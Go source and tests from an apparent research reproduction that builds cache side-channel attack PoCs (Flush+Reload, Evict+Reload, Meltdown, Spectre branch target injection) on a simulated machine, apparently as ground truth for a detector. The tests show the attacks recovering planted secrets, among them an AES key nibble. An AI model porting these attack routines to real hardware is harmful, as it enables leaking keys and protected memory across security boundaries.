	b.DataAt("evbuf", evictionSetBase, evBytes, nil, false)
	scratch := b.Bytes("scratch", 256, false)
	hits := b.Bytes("hits", uint64(p.Lines)*8, false)

	emitSetupNoise(b, scratch, 16, "setup", 2)

	b.Mov(isa.R(isa.R7), isa.Imm(int64(p.Rounds)))
	b.Label("round")
	b.Mov(isa.R(isa.R2), isa.Imm(0))
	b.Label("lines")
	emitLineAddr(b, isa.R1, isa.R2, SharedBase)

	// Evict phase: walk LLCWays+1 congruent addresses of our own buffer.
	b.BeginAttack().
		Label("evict").
		Mov(isa.R(isa.R3), isa.Imm(0)).
		Label("evloop").
		Mov(isa.R(isa.R4), isa.R(isa.R3)).
		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
		Mov(isa.R(isa.R5), isa.R(isa.R2)).
		Shl(isa.R(isa.R5), isa.Imm(6)).
		Add(isa.R(isa.R4), isa.R(isa.R5)).
		Add(isa.R(isa.R4), isa.Imm(int64(evictionSetBase))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
		Inc(isa.R(isa.R3)).
		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays+1))).
		Jl("evloop").
		EndAttack()

	emitBusyWait(b, "wait", isa.R3, p.Wait)

	// Timed reload.
	b.BeginAttack().
		Label("reload").
		Rdtscp(isa.R4).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Rdtscp(isa.R5).
		Sub(isa.R(isa.R5), isa.R(isa.R4)).
		Cmp(isa.R(isa.R5), isa.Imm(p.Threshold)).
		Jae("miss").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(hits))).
		Mov(isa.R(isa.R8), isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R8)).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R8)).
		EndAttack().
		Label("miss")

	b.Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("lines")
	b.Dec(isa.R(isa.R7)).
		Jne("round")

	emitResultScan(b, hits, p.Lines, "post", 0)
	b.Hlt()
	return PoC{Name: "ER-IAIK", Family: FamilyFR, Program: b.MustBuild(), Victim: SharedVictim(p)}
}
