package attacks

import (
	"testing"

	"repro/internal/exec"
	"repro/internal/isa"
)

// runPoC executes a PoC and returns the machine after completion.
func runPoC(t *testing.T, poc PoC) *exec.Machine {
	t.Helper()
	m, err := exec.NewMachine(exec.DefaultConfig(), poc.Program, poc.Victim)
	if err != nil {
		t.Fatalf("%s: %v", poc.Name, err)
	}
	tr := m.Run()
	if !tr.Halted {
		t.Fatalf("%s: did not halt (retired %d)", poc.Name, tr.Retired)
	}
	return m
}

// histogramArgmax reads an n-entry uint64 histogram at base and returns
// the index with the largest count.
func histogramArgmax(m *exec.Machine, base uint64, n int) (int, uint64) {
	best, bestV := -1, uint64(0)
	for i := 0; i < n; i++ {
		v := m.Memory().Load64(base + uint64(i*8))
		if v > bestV {
			best, bestV = i, v
		}
	}
	return best, bestV
}

func segAddr(t *testing.T, p *isa.Program, name string) uint64 {
	t.Helper()
	seg, ok := p.Segment(name)
	if !ok {
		t.Fatalf("%s: missing segment %q", p.Name, name)
	}
	return seg.Addr
}

func TestAllPoCsBuildAndValidate(t *testing.T) {
	pocs := All(DefaultParams())
	if len(pocs) != 11 {
		t.Fatalf("corpus size = %d, want 11 (Table II)", len(pocs))
	}
	for _, poc := range pocs {
		if err := poc.Program.Validate(); err != nil {
			t.Errorf("%s: %v", poc.Name, err)
		}
		if poc.Victim != nil {
			if err := poc.Victim.Validate(); err != nil {
				t.Errorf("%s victim: %v", poc.Name, err)
			}
		}
		if len(poc.Program.AttackAddrs()) == 0 {
			t.Errorf("%s: no ground-truth attack marks", poc.Name)
		}
	}
}

func TestFamiliesAndRegistry(t *testing.T) {
	if len(Families()) != 4 {
		t.Error("four attack families expected")
	}
	names := Names()
	if len(names) != 11 {
		t.Fatalf("names = %v", names)
	}
	for _, n := range names {
		poc, err := ByName(n, DefaultParams())
		if err != nil {
			t.Errorf("ByName(%q): %v", n, err)
		}
		if poc.Name != n {
			t.Errorf("ByName(%q) returned %q", n, poc.Name)
		}
	}
	if _, err := ByName("nope", DefaultParams()); err == nil {
		t.Error("unknown name must error")
	}
	fr := OfFamily(FamilyFR, DefaultParams())
	if len(fr) != 5 {
		t.Errorf("FR family size = %d, want 5", len(fr))
	}
	if len(OfFamily(FamilyPP, DefaultParams())) != 2 {
		t.Error("PP family size wrong")
	}
	if len(OfFamily(FamilySFR, DefaultParams())) != 3 {
		t.Error("S-FR family size wrong")
	}
	if len(OfFamily(FamilySPP, DefaultParams())) != 1 {
		t.Error("S-PP family size wrong")
	}
}

func TestParamsWithDefaults(t *testing.T) {
	p := Params{}.withDefaults()
	d := DefaultParams()
	d.Secret = 0 // zero is a valid secret and is preserved
	if p != d {
		t.Errorf("defaults = %+v, want %+v", p, d)
	}
	// Secret wraps into the line range.
	p2 := Params{Secret: 100, Lines: 8}.withDefaults()
	if p2.Secret != 100%8 {
		t.Errorf("secret = %d", p2.Secret)
	}
}

// Every Flush+Reload-family PoC must recover which shared line the
// victim touches.
func TestFlushReloadFamilyRecoversSecret(t *testing.T) {
	p := DefaultParams()
	for _, build := range []func(Params) PoC{FlushReloadIAIK, FlushReloadMastik, FlushReloadNepoche} {
		poc := build(p)
		m := runPoC(t, poc)
		histName := "hits"
		if poc.Name == "FR-Mastik" {
			histName = "hist"
		}
		base := segAddr(t, poc.Program, histName)
		got, hits := histogramArgmax(m, base, p.Lines)
		if got != p.Secret {
			t.Errorf("%s: recovered line %d (count %d), want %d", poc.Name, got, hits, p.Secret)
		}
		if hits == 0 {
			t.Errorf("%s: no hits recorded at all", poc.Name)
		}
	}
}

func TestFlushFlushRecoversSecret(t *testing.T) {
	p := DefaultParams()
	poc := FlushFlushIAIK(p)
	m := runPoC(t, poc)
	base := segAddr(t, poc.Program, "hits")
	got, hits := histogramArgmax(m, base, p.Lines)
	if got != p.Secret || hits == 0 {
		t.Errorf("FF-IAIK: recovered line %d (count %d), want %d", got, hits, p.Secret)
	}
}

func TestEvictReloadRecoversSecret(t *testing.T) {
	p := DefaultParams()
	poc := EvictReloadIAIK(p)
	m := runPoC(t, poc)
	base := segAddr(t, poc.Program, "hits")
	got, hits := histogramArgmax(m, base, p.Lines)
	if got != p.Secret || hits == 0 {
		t.Errorf("ER-IAIK: recovered line %d (count %d), want %d", got, hits, p.Secret)
	}
}

func TestPrimeProbeFamilyRecoversSecret(t *testing.T) {
	p := DefaultParams()
	for _, build := range []func(Params) PoC{PrimeProbeIAIK, PrimeProbeJzhang} {
		poc := build(p)
		m := runPoC(t, poc)
		histName := "evictions"
		if poc.Name == "PP-Jzhang" {
			histName = "score"
		}
		base := segAddr(t, poc.Program, histName)
		got, hits := histogramArgmax(m, base, p.Lines)
		if got != p.Secret || hits == 0 {
			t.Errorf("%s: recovered set %d (count %d), want %d", poc.Name, got, hits, p.Secret)
		}
	}
}

func TestSpectreFRVariantsLeakSecret(t *testing.T) {
	p := DefaultParams()
	wantLine := p.Secret % spectreProbeLines
	for _, build := range []func(Params) PoC{SpectreFRIdea, SpectreFRGood, SpectreFRMin} {
		poc := build(p)
		if poc.Victim != nil {
			t.Errorf("%s: spectre PoCs are self-contained", poc.Name)
		}
		m := runPoC(t, poc)
		base := segAddr(t, poc.Program, "hist")
		got, hits := histogramArgmax(m, base, spectreProbeLines)
		if got != wantLine || hits == 0 {
			t.Errorf("%s: leaked line %d (count %d), want %d", poc.Name, got, hits, wantLine)
		}
	}
}

func TestSpectrePPLeaksSecret(t *testing.T) {
	p := DefaultParams()
	wantSet := p.Secret % spectreProbeLines
	poc := SpectrePPTrippel(p)
	m := runPoC(t, poc)
	base := segAddr(t, poc.Program, "hist")
	// Set 0 may carry training pollution; the secret set must still hold
	// a nonzero count.
	hit := m.Memory().Load64(base + uint64(wantSet*8))
	if hit == 0 {
		t.Errorf("S-PP-Trippel: secret set %d never flagged", wantSet)
	}
	// And the signal must be selective: not every set flagged.
	flagged := 0
	for i := 0; i < spectreProbeLines; i++ {
		if m.Memory().Load64(base+uint64(i*8)) > 0 {
			flagged++
		}
	}
	if flagged > spectreProbeLines/2 {
		t.Errorf("S-PP-Trippel: %d of %d sets flagged; not selective", flagged, spectreProbeLines)
	}
}

// Different Secret parameters must change what is recovered — the PoCs
// react to the victim, they don't just replay a constant.
func TestSecretParameterIsRespected(t *testing.T) {
	for _, secret := range []int{2, 9} {
		p := DefaultParams()
		p.Secret = secret
		poc := FlushReloadIAIK(p)
		m := runPoC(t, poc)
		base := segAddr(t, poc.Program, "hits")
		got, _ := histogramArgmax(m, base, p.Lines)
		if got != secret {
			t.Errorf("secret=%d: recovered %d", secret, got)
		}
	}
}

func TestVictims(t *testing.T) {
	p := DefaultParams()
	for _, v := range []*isa.Program{SharedVictim(p), SetVictim(p), QuietVictim()} {
		if err := v.Validate(); err != nil {
			t.Errorf("%s: %v", v.Name, err)
		}
	}
}

// PoCs must contain attack-irrelevant code too, or the block-reduction
// evaluation of Table IV would be vacuous.
func TestPoCsContainIrrelevantCode(t *testing.T) {
	for _, poc := range All(DefaultParams()) {
		total := len(poc.Program.Insns)
		marked := len(poc.Program.AttackAddrs())
		if marked == 0 || marked >= total {
			t.Errorf("%s: %d of %d instructions marked; need a strict subset",
				poc.Name, marked, total)
		}
	}
}

// The intro's motivating scenario end-to-end: Flush+Reload against a
// crypto library's shared T-table recovers the victim's key nibble.
func TestFlushReloadRecoversAESKeyNibble(t *testing.T) {
	const keyNibble = 13
	p := DefaultParams()
	p.Lines = 16
	p.Secret = keyNibble // used only to size the attack; victim overrides
	poc := FlushReloadIAIK(p)
	poc.Victim = AESTableVictim(keyNibble)
	m := runPoC(t, poc)
	base := segAddr(t, poc.Program, "hits")
	got, hits := histogramArgmax(m, base, p.Lines)
	if got != keyNibble || hits == 0 {
		t.Errorf("recovered key nibble %d (count %d), want %d", got, hits, keyNibble)
	}
}
