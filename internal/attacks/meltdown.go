package attacks

import "repro/internal/isa"

// Meltdown-type extension (Section II-B of the paper lists Meltdown
// alongside Spectre as the transient amplifier of classic CSCAs). The
// PoC reads a *protected* kernel address inside the transient shadow of
// an always-taken branch: the read never retires — architecturally it
// would fault when exec.Config.Protected covers the kernel range — but
// the speculative data access completes, and the dependent probe-array
// fill leaks the byte to a Flush+Reload recovery scan.
//
// MeltdownFR is not part of the Table II corpus (the paper evaluates
// Spectre variants only); it exists as a generalizability probe: the
// detector has no Meltdown model, yet the behavior — transient gadget
// plus flush/reload recovery — lands in the transient-FR family.
const (
	// MeltdownKernelBase is the protected region holding the secret.
	MeltdownKernelBase uint64 = 0x7800_0000
	// MeltdownKernelSize covers one page of "kernel" memory.
	MeltdownKernelSize uint64 = 0x1000
	// meltdownProbeBase keeps the probe lines in monitored sets.
	meltdownProbeBase uint64 = 0x6200_0000 + MonitoredSetOffset*LineSize
)

// MeltdownFR builds the Meltdown-type transient-read PoC with
// Flush+Reload recovery. Self-contained (no victim); the secret is
// whatever the machine's memory holds at MeltdownKernelBase (zero by
// default; tests plant a value).
func MeltdownFR(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("Meltdown-FR", AttackerCodeBase)
	probe := b.DataAt("probe", meltdownProbeBase, spectreProbeLines*LineSize, nil, false)
	hist := b.Bytes("hist", spectreProbeLines*8, false)
	scratch := b.Bytes("scratch", 128, false)

	emitSetupNoise(b, scratch, 8, "setup", 0)

	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
	b.Label("round")

	// Flush the probe array.
	b.BeginAttack().
		Mov(isa.R(isa.R5), isa.Imm(0)).
		Label("fl").
		Mov(isa.R(isa.R6), isa.R(isa.R5)).
		Shl(isa.R(isa.R6), isa.Imm(6)).
		Add(isa.R(isa.R6), isa.Imm(int64(probe))).
		Clflush(isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
		Jl("fl").
		EndAttack()

	// Suppressed kernel read: the Je is architecturally always taken
	// (R15==R15), so the protected load below it never retires; on the
	// first round the weakly-not-taken predictor mispredicts and the
	// load runs transiently, filling probe[secret&15].
	b.BeginAttack().
		Cmp(isa.R(isa.R15), isa.R(isa.R15)).
		Je("recover").
		Mov(isa.R(isa.R3), isa.Mem(isa.RegNone, int64(MeltdownKernelBase))).
		And(isa.R(isa.R3), isa.Imm(spectreProbeLines-1)).
		Shl(isa.R(isa.R3), isa.Imm(6)).
		Mov(isa.R(isa.R4), isa.MemIdx(isa.RegNone, isa.R3, 1, int64(probe))).
		EndAttack().
		Label("recover")

	emitReloadScan(b, "scan", probe, hist, p.Threshold)

	b.Dec(isa.R(isa.R11)).
		Jne("round")
	emitResultScan(b, hist, spectreProbeLines, "post", 1)
	b.Hlt()
	return PoC{Name: "Meltdown-FR", Family: FamilySFR, Program: b.MustBuild()}
}
