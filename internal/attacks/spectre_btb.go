package attacks

import "repro/internal/isa"

// Spectre-v2 extension (branch target injection): the attacker trains an
// indirect jump's BTB entry toward a disclosure gadget, then switches the
// architectural target to a benign handler. Until the indirect target
// resolves, the front end transiently executes the stale BTB target —
// the gadget — which dereferences a pointer register and touches a
// value-dependent probe line. During training the pointer aims at a
// dummy zero word (the gadget architecturally touches probe line 0
// only); during the attack shot it aims at the secret, which therefore
// leaks purely transiently. A Flush+Reload scan recovers the byte.
//
// Like Meltdown-FR and Evict-Time this PoC is a beyond-Table-II
// generalizability probe: no v2 model exists in the repository, yet the
// transient-gadget + reload structure lands it in the transient-FR
// neighborhood.
const (
	// spectreBTBProbeBase keeps the probe lines in monitored sets,
	// separate from the other Spectre PoCs' regions.
	spectreBTBProbeBase uint64 = 0x6400_0000 + MonitoredSetOffset*LineSize
	// spectreBTBSecret is the private secret word the gadget can reach.
	spectreBTBSecret uint64 = 0x6600_0000
	// spectreBTBDummy is the zero word used while training.
	spectreBTBDummy uint64 = 0x6600_1000
)

// SpectreBTB builds the branch-target-injection PoC. Self-contained.
func SpectreBTB(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("S-BTB", AttackerCodeBase)
	probe := b.DataAt("probe", spectreBTBProbeBase, spectreProbeLines*LineSize, nil, false)
	secretInit := make([]byte, 8)
	secretInit[0] = byte(p.Secret % spectreProbeLines)
	b.DataAt("secret", spectreBTBSecret, 8, secretInit, false)
	b.DataAt("dummy", spectreBTBDummy, 8, nil, false)
	hist := b.Bytes("hist", spectreProbeLines*8, false)
	scratch := b.Bytes("scratch", 128, false)

	b.Entry("main")

	// The victim-style dispatcher: one indirect jump whose BTB entry the
	// attack poisons. R9 holds the architectural target, R12 the data
	// pointer the gadget dereferences.
	b.Label("dispatch").
		Raw(isa.JMP, isa.R(isa.R9), isa.None())

	// Disclosure gadget (the poisoned target): load *R12, touch the
	// value-dependent probe line, continue.
	b.Label("gadget")
	b.BeginAttack().
		Mov(isa.R(isa.R3), isa.Mem(isa.R12, 0)).
		And(isa.R(isa.R3), isa.Imm(spectreProbeLines-1)).
		Shl(isa.R(isa.R3), isa.Imm(6)).
		Mov(isa.R(isa.R4), isa.MemIdx(isa.RegNone, isa.R3, 1, int64(probe))).
		EndAttack().
		Jmp("after")

	// Benign handler (the architectural target of the attack shot).
	b.Label("benign_handler").
		Mov(isa.R(isa.R4), isa.Imm(0)).
		Jmp("after")

	// after returns to the driver through R13.
	b.Label("after").
		Raw(isa.JMP, isa.R(isa.R13), isa.None())

	b.Label("main")
	emitSetupNoise(b, scratch, 8, "setup", 0)

	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
	b.Label("round")

	// Flush the probe array so only transient touches warm lines.
	b.BeginAttack().
		Mov(isa.R(isa.R5), isa.Imm(0)).
		Label("fl").
		Mov(isa.R(isa.R6), isa.R(isa.R5)).
		Shl(isa.R(isa.R6), isa.Imm(6)).
		Add(isa.R(isa.R6), isa.Imm(int64(probe))).
		Clflush(isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
		Jl("fl").
		EndAttack()

	// Train the BTB: three dispatches whose architectural target IS the
	// gadget, with the pointer aimed at the dummy zero word.
	b.Mov(isa.R(isa.R10), isa.Imm(3)).
		Label("train").
		Mov(isa.R(isa.R12), isa.Imm(int64(spectreBTBDummy)))
	// Targets via label immediates: resolved after Build? Builder only
	// resolves branch labels; load the addresses through the label map
	// by emitting Jmp-based trampolines instead: set R9/R13 using
	// LoadLabel pseudo — implemented with a second pass below.
	b.Raw(isa.MOV, isa.R(isa.R9), isa.Imm(labelRefGadget)).
		Raw(isa.MOV, isa.R(isa.R13), isa.Imm(labelRefTrainBack)).
		Jmp("dispatch").
		Label("train_back").
		Dec(isa.R(isa.R10)).
		Jne("train")

	// Attack shot: architectural target = benign handler, pointer =
	// secret. The stale BTB entry sends the transient front end into the
	// gadget with R12 already pointing at the secret.
	b.Mov(isa.R(isa.R12), isa.Imm(int64(spectreBTBSecret))).
		Raw(isa.MOV, isa.R(isa.R9), isa.Imm(labelRefBenign)).
		Raw(isa.MOV, isa.R(isa.R13), isa.Imm(labelRefShotBack)).
		Jmp("dispatch").
		Label("shot_back")

	emitReloadScan(b, "scan", probe, hist, p.Threshold)

	b.Dec(isa.R(isa.R11)).
		Jne("round")
	emitResultScan(b, hist, spectreProbeLines, "post", 2)
	b.Hlt()

	prog := b.MustBuild()
	// Resolve the label-address immediates.
	patchLabelRefs(prog, map[int64]string{
		labelRefGadget:    "gadget",
		labelRefBenign:    "benign_handler",
		labelRefTrainBack: "train_back",
		labelRefShotBack:  "shot_back",
	})
	return PoC{Name: "S-BTB", Family: FamilySFR, Program: prog}
}

// Sentinel immediates standing for label addresses until patching.
const (
	labelRefGadget int64 = -0x7e51_0001 - iota
	labelRefBenign
	labelRefTrainBack
	labelRefShotBack
)

// patchLabelRefs rewrites sentinel immediates with label addresses.
func patchLabelRefs(p *isa.Program, refs map[int64]string) {
	for i := range p.Insns {
		in := &p.Insns[i]
		if in.Src.Kind != isa.OpImm {
			continue
		}
		if label, ok := refs[in.Src.Disp]; ok {
			in.Src = isa.Imm(int64(p.Labels[label]))
		}
	}
}
