package attacks

import "repro/internal/isa"

// FlushReloadIAIK is the classic interleaved Flush+Reload loop (IAIK
// style): for every monitored shared line, flush it, yield to the
// victim, then reload it with RDTSCP timing and compare against the
// threshold; hits increment a per-line counter.
func FlushReloadIAIK(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("FR-IAIK", AttackerCodeBase)
	b.DataAt("shared", SharedBase, uint64(p.Lines)*LineSize, nil, true)
	scratch := b.Bytes("scratch", 256, false)
	hits := b.Bytes("hits", uint64(p.Lines)*8, false)
	results := b.Bytes("results", uint64(p.Lines)*8, false)

	emitSetupNoise(b, scratch, 16, "setup", 0)

	b.Mov(isa.R(isa.R7), isa.Imm(int64(p.Rounds)))
	b.Label("round")
	b.Mov(isa.R(isa.R2), isa.Imm(0)) // line index
	b.Label("lines")
	emitLineAddr(b, isa.R1, isa.R2, SharedBase)

	// Flush phase.
	b.BeginAttack().
		Label("flush").
		Clflush(isa.Mem(isa.R1, 0)).
		EndAttack()

	emitBusyWait(b, "wait", isa.R3, p.Wait)

	// Timed reload phase.
	b.BeginAttack().
		Label("reload").
		Rdtscp(isa.R4).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Rdtscp(isa.R5).
		Sub(isa.R(isa.R5), isa.R(isa.R4)).
		EndAttack()

	// Record latency and classify against the threshold.
	b.Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(results))).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R5))
	b.BeginAttack().
		Cmp(isa.R(isa.R5), isa.Imm(p.Threshold)).
		Jae("miss").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(hits))).
		Mov(isa.R(isa.R8), isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R8)).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R8)).
		EndAttack().
		Label("miss")

	b.Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("lines")
	b.Dec(isa.R(isa.R7)).
		Jne("round")

	emitResultScan(b, results, p.Lines, "post", 0)
	b.Hlt()
	return PoC{Name: "FR-IAIK", Family: FamilyFR, Program: b.MustBuild(), Victim: SharedVictim(p)}
}

// FlushReloadMastik is a batched Flush+Reload (Mastik style): one loop
// flushes every monitored line, a single wait follows, then a second
// loop reloads every line and stores raw latencies; classification
// happens in a separate pass over the latency buffer.
func FlushReloadMastik(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("FR-Mastik", AttackerCodeBase)
	b.DataAt("shared", SharedBase, uint64(p.Lines)*LineSize, nil, true)
	scratch := b.Bytes("scratch", 512, false)
	lat := b.Bytes("lat", uint64(p.Lines)*8, false)
	hist := b.Bytes("hist", uint64(p.Lines)*8, false)

	emitSetupNoise(b, scratch, 24, "boot", 1)

	b.Mov(isa.R(isa.R9), isa.Imm(int64(p.Rounds)))
	b.Label("epoch")

	// Phase 1: flush sweep.
	b.Mov(isa.R(isa.R1), isa.Imm(0))
	b.BeginAttack().
		Label("fsweep").
		Mov(isa.R(isa.R2), isa.R(isa.R1)).
		Shl(isa.R(isa.R2), isa.Imm(6)).
		Add(isa.R(isa.R2), isa.Imm(int64(SharedBase))).
		Clflush(isa.Mem(isa.R2, 0)).
		Inc(isa.R(isa.R1)).
		Cmp(isa.R(isa.R1), isa.Imm(int64(p.Lines))).
		Jl("fsweep").
		EndAttack()

	emitBusyWait(b, "lull", isa.R3, p.Wait*2)

	// Phase 2: reload sweep with timing.
	b.Mov(isa.R(isa.R1), isa.Imm(0))
	b.BeginAttack().
		Label("rsweep").
		Mov(isa.R(isa.R2), isa.R(isa.R1)).
		Shl(isa.R(isa.R2), isa.Imm(6)).
		Add(isa.R(isa.R2), isa.Imm(int64(SharedBase))).
		Rdtscp(isa.R4).
		Mov(isa.R(isa.R0), isa.Mem(isa.R2, 0)).
		Rdtscp(isa.R5).
		Sub(isa.R(isa.R5), isa.R(isa.R4)).
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(lat))).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R5)).
		Inc(isa.R(isa.R1)).
		Cmp(isa.R(isa.R1), isa.Imm(int64(p.Lines))).
		Jl("rsweep").
		EndAttack()

	// Phase 3: classification pass over the latency buffer.
	b.Mov(isa.R(isa.R1), isa.Imm(0)).
		Label("classify").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(lat))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R6, 0)).
		Cmp(isa.R(isa.R5), isa.Imm(p.Threshold)).
		Jae("cold").
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(hist))).
		Mov(isa.R(isa.R8), isa.Mem(isa.R7, 0)).
		Inc(isa.R(isa.R8)).
		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R8)).
		Label("cold").
		Inc(isa.R(isa.R1)).
		Cmp(isa.R(isa.R1), isa.Imm(int64(p.Lines))).
		Jl("classify")

	b.Dec(isa.R(isa.R9)).
		Jne("epoch")

	emitResultScan(b, hist, p.Lines, "post", 1)
	b.Hlt()
	return PoC{Name: "FR-Mastik", Family: FamilyFR, Program: b.MustBuild(), Victim: SharedVictim(p)}
}

// FlushReloadNepoche is a call-based Flush+Reload: a probe subroutine
// flushes, waits and time-reloads the line whose address arrives in R1,
// returning the latency in R0; the driver loop calls it per line and
// accumulates hits.
func FlushReloadNepoche(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("FR-Nepoche", AttackerCodeBase)
	b.DataAt("shared", SharedBase, uint64(p.Lines)*LineSize, nil, true)
	scratch := b.Bytes("scratch", 128, false)
	hits := b.Bytes("hits", uint64(p.Lines)*8, false)

	b.Entry("main")

	// probe(R1=line address) -> R0 latency.
	b.Label("probe")
	b.Push(isa.R(isa.R3))
	b.BeginAttack().
		Clflush(isa.Mem(isa.R1, 0)).
		EndAttack()
	emitBusyWait(b, "probe_wait", isa.R3, p.Wait)
	b.BeginAttack().
		Rdtscp(isa.R4).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Rdtscp(isa.R5).
		Sub(isa.R(isa.R5), isa.R(isa.R4)).
		Mov(isa.R(isa.R0), isa.R(isa.R5)).
		EndAttack()
	b.Pop(isa.R(isa.R3)).
		Ret()

	// main driver.
	b.Label("main")
	emitSetupNoise(b, scratch, 8, "setup", 2)
	b.Mov(isa.R(isa.R7), isa.Imm(int64(p.Rounds)))
	b.Label("round")
	b.Mov(isa.R(isa.R2), isa.Imm(0))
	b.Label("lines")
	emitLineAddr(b, isa.R1, isa.R2, SharedBase)
	b.Call("probe")
	b.BeginAttack().
		Cmp(isa.R(isa.R0), isa.Imm(p.Threshold)).
		Jae("nohit").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(hits))).
		Mov(isa.R(isa.R8), isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R8)).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R8)).
		EndAttack().
		Label("nohit")
	b.Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("lines")
	b.Dec(isa.R(isa.R7)).
		Jne("round")
	emitResultScan(b, hits, p.Lines, "post", 2)
	b.Hlt()
	return PoC{Name: "FR-Nepoche", Family: FamilyFR, Program: b.MustBuild(), Victim: SharedVictim(p)}
}
