// Package attacks contains the proof-of-concept corpus of Table II of
// the paper, re-implemented in the reproduction's ISA so they run on the
// simulated machine and genuinely exploit its timing channel:
//
//   - Flush+Reload family: FR-IAIK, FR-Mastik, FR-Nepoche (three
//     structurally different implementations), Flush+Flush (FF-IAIK) and
//     Evict+Reload (ER-IAIK);
//   - Prime+Probe family: PP-IAIK and PP-Jzhang;
//   - Spectre-like variants: three Spectre-v1 Flush+Reload PoCs
//     (S-FR-Idea, S-FR-Good, S-FR-Min) and one Spectre-v1 Prime+Probe
//     PoC (S-PP-Trippel).
//
// Every PoC carries builder-marked ground truth (the manually identified
// attack-relevant regions of Table IV) and comes with the victim program
// it spies on, when it needs one. Each program also contains deliberate
// attack-irrelevant code (setup, calibration bookkeeping, result
// post-processing) so the pipeline's block reduction has something real
// to remove.
package attacks

import (
	"fmt"
	"sort"

	"repro/internal/isa"
)

// Family names an attack family as abbreviated in the paper.
type Family string

// The four attack classes of Table II, plus Benign for dataset labeling.
const (
	FamilyFR     Family = "FR-F" // Flush+Reload family
	FamilyPP     Family = "PP-F" // Prime+Probe family
	FamilySFR    Family = "S-FR" // Spectre-like variants of FR
	FamilySPP    Family = "S-PP" // Spectre-like variants of PP
	FamilyBenign Family = "Benign"
)

// Families lists the attack families in canonical order.
func Families() []Family {
	return []Family{FamilyFR, FamilyPP, FamilySFR, FamilySPP}
}

// PoC is one attack proof of concept: the attack program plus the victim
// it requires (nil for self-contained Spectre PoCs).
type PoC struct {
	Name    string
	Family  Family
	Program *isa.Program
	Victim  *isa.Program
}

// Params tunes the generated PoCs; the dataset generator varies these to
// diversify samples while the attack structure stays intact.
type Params struct {
	// Rounds is the number of monitoring rounds the attacker runs.
	Rounds int
	// Lines is the number of monitored shared lines (FR family) or LLC
	// sets (PP family).
	Lines int
	// Wait is the busy-wait iteration count between attack phases.
	Wait int
	// Secret selects which line/set the victim's secret-dependent access
	// touches.
	Secret int
	// Threshold is the hit/miss timing threshold in cycles.
	Threshold int64
}

// DefaultParams matches the simulated machine's default latencies.
func DefaultParams() Params {
	return Params{Rounds: 4, Lines: 12, Wait: 24, Secret: 5, Threshold: 100}
}

func (p Params) withDefaults() Params {
	d := DefaultParams()
	if p.Rounds <= 0 {
		p.Rounds = d.Rounds
	}
	if p.Lines <= 0 {
		p.Lines = d.Lines
	}
	if p.Wait <= 0 {
		p.Wait = d.Wait
	}
	if p.Secret < 0 {
		p.Secret = d.Secret
	}
	p.Secret %= p.Lines
	if p.Threshold <= 0 {
		p.Threshold = d.Threshold
	}
	return p
}

// Memory layout shared by the corpus.
const (
	// SharedBase is the base of the read-only shared region (the "shared
	// library" of the FR family).
	SharedBase uint64 = 0x2000_0000
	// LineSize matches the cache hierarchy.
	LineSize = 64
	// AttackerCodeBase and VictimCodeBase keep code regions disjoint.
	AttackerCodeBase uint64 = 0x40_0000
	VictimCodeBase   uint64 = 0x80_0000
	// VictimDataBase keeps the victim's private data away from the
	// attacker's builder-allocated data.
	VictimDataBase uint64 = 0x3000_0000
	// EvictionStride is the address stride that keeps the LLC set index
	// constant (sets * lineSize for the default 256-set LLC).
	EvictionStride uint64 = 256 * 64
	// LLCWays is the associativity eviction sets must cover.
	LLCWays = 8
	// MonitoredSetOffset keeps Prime+Probe-monitored LLC sets away from
	// the sets the attacker's own code, stack and bookkeeping data map to
	// (all of which cluster near set 0); without it the attacker's own
	// instruction fetches evict its primed lines.
	MonitoredSetOffset = 128
	// ppProbeThreshold separates a warm probe walk of LLCWays lines
	// (LLC hits plus loop overhead plus victim-interleaving noise,
	// ~850-990 cycles measured) from one containing victim-induced
	// memory misses (~2000 cycles measured).
	ppProbeThreshold = 1400
	// ppProbeThresholdSolo is the equivalent for the self-contained
	// Spectre Prime+Probe PoC, whose probe walks run without a victim
	// stealing cycles (~520 warm vs ~680 with one transient miss).
